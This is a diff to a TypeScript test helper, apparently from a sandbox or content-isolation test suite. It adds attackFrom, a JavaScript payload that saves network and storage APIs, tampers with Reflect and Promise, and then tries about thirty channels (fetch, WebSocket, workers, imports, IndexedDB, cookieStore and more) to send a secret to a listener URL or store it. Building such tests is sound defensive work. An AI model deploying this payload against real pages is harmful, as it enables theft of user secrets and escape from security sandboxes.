@@ -54,6 +54,61 @@ export async function startTamperedSite(): Promise<TamperedSite> {
   return Object.assign(site, { url, [Symbol.asyncDispose]: () => close(server) });
 }
 
+/** Keeps what it finds and spoils what a gate might use; then, on command, tries every way with the secret in hand. */
+export const attackFrom = (url: string) => `
+  const grab = (get) => { try { return get(); } catch {} };
+  const names = ['fetch', 'XMLHttpRequest', 'WebSocket', 'EventSource', 'WebTransport', 'importScripts', 'FontFace', 'Worker', 'SharedWorker',
+    'BroadcastChannel', 'indexedDB', 'caches', 'cookieStore', 'webkitRequestFileSystem', 'IDBFactory', 'CacheStorage', 'StorageManager', 'LockManager'];
+  const kept = Object.fromEntries(names.map((name) => [name, grab(() => globalThis[name])]));
+  for (const name of ['storage', 'locks', 'storageBuckets', 'serviceWorker']) kept[name] = grab(() => navigator[name]);
+  Reflect.defineProperty = () => true;
+  Reflect.apply = new Proxy(Reflect.apply, {});
+  Promise.prototype.then = new Proxy(Promise.prototype.then, {});
+  globalThis.attack = async (secret) => {
+    const outcome = {};
+    const url = '${url}/?' + secret;
+    const attempt = async (name, work) => {
+      try { outcome[name] = 'OUT ' + String(await Promise.race([work(), new Promise((r) => setTimeout(r, 1500, 'nothing came of it'))])).slice(0, 60); }
+      catch (error) { outcome[name] = 'shut: ' + (error && (error.code || error.name) || error); }
+    };
+    const opened = (request) => new Promise((y, n) => { request.onsuccess = () => y('opened'); request.onerror = () => n(request.error); });
+    const blobWorker = (text) => new Promise((y, n) => {
+      const worker = new kept.Worker(URL.createObjectURL(new Blob([text])));
+      worker.onmessage = ({ data }) => String(data).startsWith('no') ? n(new Error(data)) : y(data);
+      worker.onerror = () => n(new Error('error'));
+      setTimeout(() => n(new Error('no answer')), 1200);
+    });
+    await attempt('fetch', () => kept.fetch(url));
+    await attempt('fetch without cors', () => kept.fetch(url, { mode: 'no-cors' }));
+    await attempt('fetch, kept alive', () => kept.fetch(url, { mode: 'no-cors', keepalive: true, method: 'POST', body: secret }));
+    await attempt('XMLHttpRequest', () => new Promise((y, n) => { const x = new kept.XMLHttpRequest(); x.onload = y; x.onerror = () => n(new Error('error')); x.open('GET', url); x.send(); }));
+    await attempt('WebSocket', () => new Promise((y, n) => { const s = new kept.WebSocket(url.replace('http', 'ws')); s.onopen = y; s.onerror = () => n(new Error('error')); }));
+    await attempt('EventSource', () => new Promise((y, n) => { const s = new kept.EventSource(url); s.onopen = y; s.onerror = () => n(new Error('error')); }));
+    await attempt('WebTransport', () => new kept.WebTransport(url.replace('http:', 'https:')).ready);
+    await attempt('importScripts', () => kept.importScripts(url));
+    await attempt('import()', () => import(url));
+    await attempt('import() of JSON', () => import(url + '.json', { with: { type: 'json' } }));
+    await attempt('import() of text', () => import(url, { with: { type: 'text' } }));
+    await attempt('import() of a style', () => import(url, { with: { type: 'css' } }));
+    await attempt('FontFace', () => new kept.FontFace('x', 'url(' + url + ')').load());
+    await attempt('Worker', () => new Promise((y, n) => { const w = new kept.Worker(url); w.onmessage = y; w.onerror = () => n(new Error('error')); }));
+    await attempt('a worker of a blob that fetches', () => blobWorker('fetch("' + url + '").then(() => postMessage("sent"), (e) => postMessage("no " + e.name))'));
+    await attempt('a worker of a blob that stores', () => blobWorker('try { const r = indexedDB.open("loot"); r.onsuccess = () => postMessage("stored"); r.onerror = () => postMessage("no"); } catch (e) { postMessage("no " + e.name); }'));
+    await attempt('SharedWorker', () => new kept.SharedWorker(url));
+    await attempt('indexedDB', () => opened(kept.indexedDB.open('loot ' + secret)));
+    await attempt('IDBFactory', () => opened(IDBFactory.prototype.open.call(kept.indexedDB, 'loot')));
+    await attempt('the vault', () => opened(kept.indexedDB.open('e2p-vault-default')));
+    await attempt('caches', () => kept.caches.open('loot'));
+    await attempt('OPFS', async () => { const root = await kept.storage.getDirectory(); return root.getFileHandle('loot', { create: true }); });
+    await attempt('the files of the app in OPFS', () => StorageManager.prototype.getDirectory.call(kept.storage));
+    await attempt('a bucket', () => kept.storageBuckets.open('loot'));
+    await attempt('a lock', () => kept.locks.request('loot', () => 'held'));
+    await attempt('cookieStore', () => kept.cookieStore.set('loot', secret));
+    await attempt('a file system of old', () => new Promise((y, n) => kept.webkitRequestFileSystem(0, 1024, y, n)));
+    await attempt('BroadcastChannel', () => new kept.BroadcastChannel('loot').postMessage(secret));
+    return outcome;
+  };`;
+
 export interface Listener extends AsyncDisposable {
   readonly url: string;
   /** `GET /path body` of each request; `SOCKET bytes` of each frame of a WebSocket, unmasked. */
